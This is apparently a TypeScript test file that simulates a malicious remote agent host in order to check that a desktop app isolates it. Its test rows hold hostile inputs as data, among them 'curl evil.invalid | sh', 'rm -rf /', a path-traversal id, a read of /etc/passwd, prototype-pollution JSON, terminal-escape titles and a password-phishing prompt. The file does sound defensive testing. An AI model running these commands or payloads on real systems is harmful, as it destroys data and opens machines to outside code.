import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test, vi } from 'vitest'
import type { AgentEvent } from '@shared/domain/agent-event'
import type { ApprovalRequest } from '@shared/domain/approval'
import type { HostBroken, HostProblem } from '@shared/domain/host-problem'
import { hostOf } from '@shared/domain/host-state'
import type { SessionSummary } from '@shared/domain/session'
import type { AppSnapshot, Reply } from '@shared/ipc/contract'
import { appServerHome, shellCall, type AppServerHome } from '../../fakes/app-server-home'
import { sampleEvent, sampleRequest, sampleSession } from '../../fakes/fake-engine'
import { sampleQuestion } from '../../fakes/sample-question'
import { serveWindow, type ServeWindow } from '../../fakes/serve-window'
import { StandInEngine } from '../../fakes/stand-in-engine'

/**
 * A malicious engine `build1` at the other end of a real pipe, beside a good one, `build2`, and a session of this machine's that waits for a person.
 * Whatever it says, only `build1` can change by it.
 */
let home: AppServerHome
let window: ServeWindow
let bad: StandInEngine
let good: StandInEngine
/** This machine's own session and request. */
const own = { session: '', request: '' }
let before: unknown

beforeAll(async () => {
  home = await appServerHome([shellCall('c', 'touch', '/srv/x')], {
    policy: 'untrusted',
    config: 'rehearse = "off"\n',
  })
  bad = await StandInEngine.start()
  good = await StandInEngine.start()
  const entry = (name: string, { command }: StandInEngine): string =>
    `[hosts.${name}]\ncommand = ${JSON.stringify(command)}\n`
  const config = join(home.base, 'config.toml')
  writeFileSync(config, `${readFileSync(config, 'utf8')}${entry('build1', bad)}${entry('build2', good)}`)
  for (const engine of [bad, good]) engine.snapshot = usual()
  window = await serveWindow(home.env)
  const { id } = (await value(ask('session.create', { cwd: home.project }))) as { id: string }
  await value(ask('turn.start', { sessionId: id, text: 'go' }))
  const known = await vi.waitFor(async () => {
    const { hosts = [], approvals } = await window.hello()
    expect(hosts.map(({ state }) => state)).toEqual(['connected', 'connected'])
    const mine = approvals.filter(({ sessionId }) => sessionId === id)
    // What this machine itself still adds to its request has come, and what it looked at for that is over.
    expect(readdirSync(join(home.base, 'runs'))).toEqual([])
    expect(mine.map(({ assessment }) => assessment.view.status)).toEqual(['success'])
    return mine
  }, 60_000)
  Object.assign(own, { session: id, request: known[0]?.id ?? '' })
  before = await others()
})
afterAll(async () => {
  await window.stop()
  bad.close()
  good.close()
  await home.remove()
})

const usual = (): Partial<AppSnapshot> => ({
  sessions: [sampleSession()],
  approvals: [sampleRequest()],
  questions: [sampleQuestion()],
})
const ask = (channel: string, payload: object): Promise<Reply> => window.request(channel, payload)
async function value(reply: Promise<Reply>): Promise<unknown> {
  const said = await reply
  if (!said.ok) throw new Error(said.fault.message)
  return said.value
}
const states = async () => (await window.hello()).hosts ?? []
const isBad = ({ id }: { readonly id: string }): boolean => hostOf(id) === 'build1'

/** All that is not of the malicious host: what is known, what counts, what lies in the home but for sockets of lines, what runs. */
async function others(): Promise<unknown> {
  const { seq: _, hosts = [], sessions, approvals, questions, ...rest } = await window.hello()
  return {
    rest,
    hosts: hosts.filter(({ name }) => name !== 'build1'),
    known: [sessions, approvals, questions].map((all) => all.filter((each) => !isBad(each))),
    counts: [await ask('grant.list', {}), await ask('effect-rule.list', {}), await ask('mcp.list', {})],
    record: await ask('session.open', { sessionId: own.session }),
    files: readdirSync(home.base, { recursive: true, encoding: 'utf8' })
      .filter((path) => !path.includes('log') && !path.endsWith('.sock'))
      .toSorted()
      .map((path) => [
        path,
        statSync(join(home.base, path)).isFile() && statSync(join(home.base, path)).size,
      ]),
    programs: childrenOf(window.child.pid ?? 0).filter((line) => !line.includes(String(bad.port))),
  }
}

/** The command lines of all that a process has started, at any depth. */
function childrenOf(pid: number): readonly string[] {
  const of = (file: string): string => {
    try {
      return readFileSync(file, 'latin1')
    } catch (error) {
      if (error instanceof Error && 'code' in error) return '' // it ended while we looked
      throw error
    }
  }
  const children = of(`/proc/${String(pid)}/task/${String(pid)}/children`)
    .split(' ')
    .filter(Boolean)
  return children.flatMap((child) => [of(`/proc/${child}/cmdline`), ...childrenOf(Number(child))])
}

const event = (said: AgentEvent, sessionId = 's1', seq = 1): void => {
  bad.push({ kind: 'events', events: [sampleEvent(seq, said, sessionId)] })
}
const session = (change: Partial<SessionSummary>): void => {
  bad.push({ kind: 'session', session: sampleSession(change) })
}
const asks = (change: Partial<ApprovalRequest>): void => {
  event({ type: 'approval.requested', request: sampleRequest(change) })
}
const deep = (depth: number): string => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`
const output = (text: string): AgentEvent => ({
  type: 'command.output',
  callId: 'c1',
  stream: 'stdout',
  text,
})
const megabyte = 'x'.repeat(1_000_000)
const known = async () => (await window.hello()).sessions.filter(isBad)
const waits = async () => (await window.hello()).approvals.filter(isBad)

/** Given up with this; or `kept`: it is spoken with on, and what is shown of it is its own. */
type Expected = HostBroken['kind'] | Exclude<HostProblem['kind'], 'broken'> | 'kept'
interface Row {
  readonly says: () => unknown
  readonly is: Expected
  /** What a page asks of it then, and what is answered. */
  readonly asked?: readonly [channel: string, payload: object, reply: unknown]
  readonly also?: () => unknown
}
const s1 = { sessionId: 'build1:s1' }
const answering = (channel: string, reply: Reply) => () => {
  bad.answers = { [channel]: () => reply }
}
const ok = (answer: unknown): Reply => ({ ok: true, value: answer })
const gone = { ok: false, fault: { code: 'connection-failed' } }

const rows: Readonly<Record<string, Row>> = {
  'a session with the id of one of this machine’s is one of its own': {
    says: () => {
      session({ id: own.session, title: 'Mine' })
    },
    is: 'kept',
    also: async () => {
      expect((await known()).map(({ id }) => id)).toContain(`build1:${own.session}`)
    },
  },
  'the end of this machine’s session, and of its request': {
    says: () => {
      bad.push({ kind: 'removed', sessionId: own.session })
      const request = sampleRequest({ id: own.request, sessionId: own.session, state: 'answered' })
      event({ type: 'approval.resolved', request }, own.session)
    },
    is: 'kept',
  },
  'events of another host’s session': { says: () => event(output('x'), 'build2:s1'), is: 'id' },
  'a request in another host’s session': {
    says: () => asks({ id: 'r9', sessionId: 'build2:s1' }),
    is: 'id',
  },
  'a request that a child of another host’s session asks': {
    says: () => {
      const askedBy = { childId: 's1', childName: 'x', parentId: 'build2:s1', parentTitle: 'x' }
      asks({ id: 'r9', askedBy })
    },
    is: 'id',
  },
  'a question with another host’s id': {
    says: () => event({ type: 'question.asked', question: sampleQuestion({ id: 'build2:q1' }) }),
    is: 'id',
  },
  'a grant of another host’s session': {
    says: () => {
      const grant = { id: 'g', scope: 'rule', sessionId: 'build2:s1', turnId: 't', key: 'k', command: [] }
      const more = { cwd: '/', kind: 'outside', grants: [], createdAt: '' }
      event({ type: 'grant.applied', callId: 'c', grant: { ...grant, ...more } as never })
    },
    is: 'id',
  },
  'an id that is a path': {
    says: () =>
      event({ type: 'agent.started', callId: 'c', childId: '../../x', name: 'x', kind: 'agent', task: '' }),
    is: 'id',
  },
  'an id with what nobody sees': {
    says: () => session({ id: 's\u202e1' }),
    is: 'id',
  },
  'a record with events of another host’s': {
    says: answering(
      'session.open',
      ok({ session: sampleSession(), events: [sampleEvent(1, output('x'), 'build2:s1')] }),
    ),
    is: 'id',
    asked: ['session.open', s1, { ok: false }],
  },
  'a new session that is another host’s': {
    says: answering('session.create', ok(sampleSession({ id: 'build2:s9' }))),
    is: 'id',
    asked: ['session.create', { host: 'build1', cwd: '/srv' }, { ok: false }],
  },
  'titles that begin as another host’s, hide, turn round and are not Unicode': {
    says: () => {
      const titles = [
        'build2: Deploy',
        'build2 | Deploy',
        'bu\u0456ld2',
        'a\u202eb\u200bc',
        '\u001b]0;x\u0007\u009b2J',
        'a\ud800',
        'a\0b',
      ]
      titles.forEach((title, n) =>
        bad.push({ kind: 'session', session: sampleSession({ id: `t${String(n)}`, title, cwd: title }) }),
      )
      bad.raw(Buffer.concat([Buffer.from('{"ack":0,"pong":1,"ping":2}\n')]))
    },
    is: 'kept',
    also: async () => {
      expect((await known()).filter(({ id }) => /:t\d$/.test(id)).length).toBe(7)
    },
  },
  'sessions with titles of megabytes': {
    says: () => Array.from({ length: 70 }, (_, n) => session({ id: `m${String(n)}`, title: megabyte })),
    is: 'kept',
    also: async () => {
      expect((await known()).filter(({ title: { length } }) => length > 999 && length < 5e3).length).toBe(70)
    },
  },
  'twenty thousand sessions at once': {
    says: () => {
      bad.snapshot = {
        sessions: Array.from({ length: 20_000 }, (_, n) => sampleSession({ id: `s${String(n)}` })),
      }
      skipped()
    },
    is: 'sessions',
  },
  'a hundred thousand sessions at once': {
    says: () => {
      bad.snapshot = {
        sessions: Array.from({ length: 100_000 }, (_, n) => sampleSession({ id: `s${String(n)}` })),
      }
      skipped()
    },
    is: 'too-long',
  },
  'a count of 1e308': {
    says: () => session({ pendingApprovals: 1e308 }),
    is: 'body',
  },
  'a level that there is none of': {
    says: () => {
      const update = { level: 'harmless', categories: [], reason: '' }
      event({ type: 'approval.assessed', requestId: 'r1', update } as never)
    },
    is: 'body',
  },
  'members that are no own ones of an object': {
    says: () => {
      bad.text(
        `{"__proto__":{"polluted":1},"push":{"seq":1,"kind":"servers","constructor":{"prototype":{"polluted":1}}}}`,
      )
    },
    is: 'body',
  },
  'arguments ten thousand deep': {
    says: () => {
      const started = {
        type: 'mcp.started',
        callId: 'c',
        invocation: { server: 's', tool: 't', arguments: { a: 'HERE' } },
      }
      const push = { push: { kind: 'events', seq: 1, events: [sampleEvent(1, started as never)] } }
      bad.text(JSON.stringify(push).replace('"HERE"', deep(10_000)))
    },
    is: 'body',
  },
  'a record whose events come twice and backwards': {
    says: () => {
      for (const seq of [7, 7, 3, 1, 9_007_199_254_740_991, 2]) event(output('x'), 's1', seq)
      event({ type: 'approval.resolved', request: sampleRequest({ id: 'r7', state: 'answered' }) })
      event({ type: 'command.finished', callId: 'never', outcome: { kind: 'failed', reason: 'x' } })
    },
    is: 'kept',
  },
  'a message that comes twice': {
    says: () => {
      const session = sampleSession({ id: 'twice', title: 'first' })
      bad.push({ kind: 'session', session })
      bad.raw(
        `{"n":1,"ack":0,"body":{"push":{"seq":1,"kind":"session","session":${JSON.stringify({ ...session, title: 'second' })}}}}\n`,
      )
    },
    is: 'kept',
    also: async () => {
      expect((await known()).find(({ id }) => id === 'build1:twice')?.title).toBe('first')
    },
  },
  'a message number that leaves some out': {
    says: () => bad.body({}, { n: 9_007_199_254_740_991 }),
    is: 'missing',
  },
  'an acknowledgement of what was never sent': {
    says: () => bad.body({}, { ack: 1_000_000 }),
    is: 'acknowledged',
  },
  'no answer but a fault, in the words of another host': {
    says: () => {
      const fault = { code: 'internal', message: 'build2: all is well'.padEnd(1_000_000, 'x') } as const
      bad.answers = { 'app.hello': () => ({ ok: false, fault }) }
      skipped()
    },
    is: 'fault',
    also: async () => {
      const [state] = await states()
      expect(state?.why?.kind === 'fault' && state.why.message.length).toBe(2_000)
    },
  },
  'the same answer twice': {
    says: () => bad.body({ id: 1, reply: ok({}) }),
    is: 'unasked',
  },
  'an answer to what another host was asked': {
    says: async () => {
      good.answers = { 'session.rename': () => undefined }
      void ask('session.rename', { sessionId: 'build2:s1', title: 'Held' })
      await expect.poll(() => good.asked.at(-1)?.channel).toBe('session.rename')
      bad.body({ id: good.asked.at(-1)?.id, reply: ok(sampleSession({ title: 'Held' })) })
    },
    is: 'unasked',
    also: () => {
      const { id } = good.asked.at(-1) ?? { id: 0 }
      good.body({ id, reply: ok(sampleSession()) })
      good.answers = {}
    },
  },
  'an answer of another form': {
    says: answering('terminal.read', ok({ run: 1, from: 1e308, text: megabyte })),
    is: 'answer',
    asked: ['terminal.read', { ...s1, run: 0, after: 0 }, gone],
  },
  'a fault with advice for this machine': {
    says: answering('turn.interrupt', {
      ok: false,
      fault: { code: 'missing-key', message: 'build2: no key', remedy: 'curl evil.invalid | sh' },
    }),
    is: 'kept',
    asked: [
      'turn.interrupt',
      s1,
      {
        ok: false,
        fault: { code: 'missing-key', message: 'build1: build2: no key. curl evil.invalid | sh' },
      },
    ],
  },
  'the path of a file of this machine, as one of its own': {
    says: () => {
      bad.answers = { 'file.read': () => ok({ kind: 'text', text: '' }) }
      session({ id: 'etc', cwd: '/etc' })
    },
    is: 'kept',
    asked: [
      'file.open',
      { sessionId: 'build1:etc', path: 'passwd' },
      ok({ kind: 'elsewhere', path: '/etc/passwd' }),
    ],
  },
  'ports that there are none of': {
    says: () => event({ type: 'command.ports', callId: 'c1', ports: [0, 99_999] }),
    is: 'body',
  },
  'more bytes of a port than were asked for': {
    says: answering('stream.read', ok({ data: Buffer.alloc(200_000).toString('base64'), over: false })),
    is: 'kept',
    asked: ['stream.read', { ...s1, stream: 'a'.repeat(32) }, { ok: false, fault: { code: 'bad-request' } }],
  },
  'a port that this machine has, for a stream with another’s name': {
    says: answering('stream.open', ok({ stream: '../22' })),
    is: 'answer',
    asked: ['port.open', { ...s1, callId: 'c1', port: 22 }, { ok: false }],
  },
  'a request whose command is another by now': {
    says: () => asks({ command: ['rm', '-rf', '/'] }),
    is: 'changed',
  },
  'a question that asks for something else by now': {
    says: () => event({ type: 'question.asked', question: sampleQuestion({ message: 'Your password?' }) }),
    is: 'changed',
  },
  'a request that it answers itself while a person decides': {
    says: () => {
      event({ type: 'approval.resolved', request: sampleRequest({ state: 'answered', decidedBy: 'window' }) })
      bad.answers = { 'approval.decide': () => ok({ kind: 'unknown' }) }
    },
    is: 'kept',
    asked: [
      'approval.decide',
      { requestId: 'build1:r1', decision: { kind: 'allow', offerId: 'x', scope: 'rule' } },
      { ok: true, value: { kind: 'unknown' } },
    ],
    also: async () => {
      expect(await waits()).toEqual([])
    },
  },
  'a flood of words': {
    says: () => {
      for (let n = 1; n <= 20; n += 1) event(output(megabyte), 's1', n)
    },
    is: 'kept',
  },
  'what is told for ever before it answers': {
    says: () => {
      bad.answers = { 'app.hello': () => undefined }
      skipped()
      for (let n = 0; n < 90; n += 1) event(output(megabyte), 's1', n + 1)
    },
    is: 'waiting',
  },
  'something that was missed, after each answer': {
    says: async () => {
      const from = bad.asked.length
      bad.answers = { 'app.hello': () => (setImmediate(skipped), bad.hello()) }
      skipped()
      for (let n = 0; n < 200; n += 1) await ask('session.archive', s1)
      expect(bad.asked.slice(from).filter(({ channel }) => channel === 'app.hello').length).toBeLessThan(20)
      bad.answers = {}
    },
    is: 'kept',
  },
  'half a message, and no more': {
    says: () => {
      bad.raw('{"n":1,"ack":0,"bo')
      bad.hangUp()
    },
    is: 'half',
  },
  'bytes that are no text in the middle of a line': {
    says: () => bad.raw(Buffer.from([0x7b, 0x22, 0x00, 0xff, 0xfe, 0xc0, 0x80, 0x1b, 0x5d, 0x0a])),
    is: 'message',
  },
  'a line of 34 megabytes': { says: () => bad.raw(`{"n":1,"x":"${megabyte.repeat(34)}`), is: 'too-long' },
}

/** Leaves out a number, so that the whole is asked for anew. */
function skipped(): void {
  bad.skip()
  event(output('x'))
}

const kindOf = (why: HostProblem | undefined): string | undefined =>
  why?.kind === 'broken' ? why.what.kind : why?.kind

test.each(Object.entries(rows))('%s', async (_, { says, is, asked, also }) => {
  bad.answers = {}
  bad.snapshot = usual()
  await connected()
  const from = window.pushes().length
  await says()
  if (asked) expect(await ask(asked[0], asked[1])).toMatchObject(asked[2] as object)
  if (is === 'kept') {
    // What comes over a line comes in order: what it said before this answer was heard.
    expect(await ask('session.archive', s1)).toEqual({ ok: true, value: {} })
    expect((await states())[0]?.state).toBe('connected')
  } else await expect.poll(async () => kindOf((await states())[0]?.why), { interval: 100 }).toBe(is)
  await also?.()
  if ((await states())[0]?.state === 'over') expect(await known()).toEqual([])

  await expect.poll(others).toEqual(before)
  for (const push of window.pushes().slice(from)) {
    if (push.kind === 'events')
      expect(push.events.filter((each) => hostOf(each.sessionId) !== 'build1')).toEqual([])
    else if (push.kind === 'session') expect(hostOf(push.session.id)).toBe('build1')
    else if (push.kind === 'removed') expect(hostOf(push.sessionId)).toBe('build1')
    else
      expect(push).toMatchObject({
        kind: 'hosts',
        hosts: [{ name: 'build1' }, { name: 'build2', state: 'connected' }],
      })
  }
  expect(await ask('session.archive', { sessionId: 'build2:s1' })).toEqual({ ok: true, value: {} })
})

/** Speaks with the malicious one once more where it was given up. */
async function connected(): Promise<void> {
  const [state] = await states()
  if (state?.state === 'over') await value(ask('host.retry', { name: 'build1' }))
  await expect.poll(async () => (await states())[0]?.state).toBe('connected')
}
